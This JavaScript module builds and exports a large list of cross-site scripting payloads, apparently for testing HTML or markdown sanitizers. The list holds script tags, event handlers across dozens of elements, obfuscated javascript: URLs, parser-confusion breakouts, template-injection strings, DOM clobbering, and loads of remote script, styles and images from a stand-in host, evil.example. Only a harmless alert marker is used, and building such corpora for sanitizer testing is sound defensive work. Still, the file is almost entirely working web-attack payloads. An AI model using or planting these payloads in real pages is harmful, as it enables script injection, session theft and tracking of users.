// What attackers write: elements that run something, by element and by attribute, and ways around filters.
const act = "globalThis.hacked=1;alert(1)";
const elements = [
    "a", "abbr", "audio", "b", "body", "button", "canvas", "center", "details", "div", "embed", "fieldset", "font", "form", "frameset", "h1", "iframe", "image", "img",
    "input", "isindex", "kbd", "link", "marquee", "math", "meta", "object", "p", "picture", "select", "source", "span", "style", "summary", "svg", "table", "template",
    "textarea", "title", "track", "video",
];
const handlers = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onpointerenter", "onanimationstart"];
const byElement = elements.flatMap((element) => handlers.map((handler) =>
    `<${element} src=x href=x data=x autofocus open controls ${handler}="${act}">x</${element}>`));
const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "\u0001javascript:", "vbscript:", "data:text/html,"];
const places = [
    (address) => `[x](${address}${act})`, (address) => `<a href="${address}${act}">x</a>`, (address) => `![x](${address}${act})`, (address) => `<iframe src="${address}${act}"></iframe>`,
    (address) => `<form action="${address}${act}"><button>x</button></form>`, (address) => `<object data="${address}${act}"></object>`,
    (address) => `<svg><a xlink:href="${address}${act}"><text>x</text></a></svg>`, (address) => `<math href="${address}${act}">x</math>`,
];
const byScheme = schemes.flatMap((scheme) => places.map((place) => place(scheme)));
const crafted = [
    `<script>${act}</script>`, `<ScRiPt>${act}</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<script type=module>${act}</script>`, `</title><script>${act}</script>`,
    `</textarea><script>${act}</script>`, `"><script>${act}</script>`, `'><img src=x onerror=${act}>`, `--><script>${act}</script>`, `]]><script>${act}</script>`,
    `<img src=x onerror=${act}//`, `<svg/onload=${act}>`, `<svg><script>${act}</script></svg>`, `<svg><animate onbegin=${act} attributeName=x dur=1s>`, `<svg><set onend=${act}>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`, `<math><mi><table><mglyph><style><img src=x onerror=${act}>`,
    `<noscript><p title="</noscript><img src=x onerror=${act}>">`, `<style><img src="</style><img src=x onerror=${act}//">`, `<xmp><p title="</xmp><svg/onload=${act}>">`,
    `<template><script>${act}</script></template>`, `<base href="javascript:/a/-${act}//">`, `<meta http-equiv=refresh content="0;javascript:${act}">`,
    `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import url(//evil.example/x.css);</style>`, `<p style="background:url(//evil.example/x.png)">x</p>`,
    `<img src=//evil.example/x.png>`, `<img srcset="//evil.example/x.png 1x">`, `<video poster=//evil.example/x.png src=//evil.example/x.mp4></video>`,
    `<picture><source srcset=//evil.example/x.png><img></picture>`, `<audio src=//evil.example/x.mp3 autoplay>`, `<input type=image src=//evil.example/x.png>`,
    `<iframe srcdoc="<script>${act}</script>"></iframe>`, `<embed src="data:image/svg+xml,<svg onload=${act}>">`, `<body background=//evil.example/x.png>`,
    "```\n</code></pre><script>" + act + "</script>\n```", "```html\"><script>" + act + "</script>\nx\n```", "`</code><script>" + act + "</script>`",
    `# </h2><script>${act}</script>`, `| <script>${act}</script> |\n|---|\n| <img src=x onerror=${act}> |`, `[^1]: <script>${act}</script>\n\nx[^1]`,
    `$$</span><script>${act}</script>$$`, `<details open ontoggle=${act}>`, `<a id=document name=cookie>x</a>`, `<form id=main><input name=action></form>`, `<p id=find class=top>x</p>`,
    `<!--[if gte IE 4]><script>${act}</script><![endif]-->`, `<?xml version="1.0"?><script>${act}</script>`, `<![CDATA[<script>${act}</script>]]>`, `{{constructor.constructor('${act}')()}}`,
    `\${${act}}`, `<%= ${act} %>`, `&lt;script&gt;${act}&lt;/script&gt;`, `\u003cscript\u003e${act}\u003c/script\u003e`, `<img src='x' onerror='${act}' style="position:fixed;inset:0">`,
];

export const payloads = [...crafted, ...byScheme, ...byElement];
